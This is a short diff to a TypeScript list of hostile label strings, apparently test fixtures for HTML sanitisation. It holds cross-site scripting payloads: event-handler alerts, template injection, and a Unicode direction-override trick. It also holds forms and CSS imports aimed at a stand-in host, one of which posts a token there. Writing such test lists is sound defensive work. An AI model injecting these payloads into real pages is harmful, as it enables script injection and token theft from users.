@@ -26,7 +26,7 @@ export const hostileLabels: readonly string[] = [
   '<style>*{display:none}</style>',
   '<style>@import "//evil.example/x.css"</style>',
   '<form action=//evil.example><input name=token><button>Approve</button></form>',
-  '</form><form method="post" action="./inc-1/presses">',
+  '</form><form method="post" action="./inc-1">',
   '<button form=x formaction=//evil.example>Approve</button>',
   '<input autofocus onfocus=alert(1)>',
   '<details open ontoggle=alert(1)>',
@@ -71,7 +71,6 @@ export const hostileLabels: readonly string[] = [
   '\u202e>tpircs/<)1(trela>tpircs<',
   '<img\tsrc=x\nonerror=alert(1)>',
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would write.
   '${alert(1)}',
   '\\"><script>alert(1)</script>',
   '\ud800<script>alert(1)</script>',
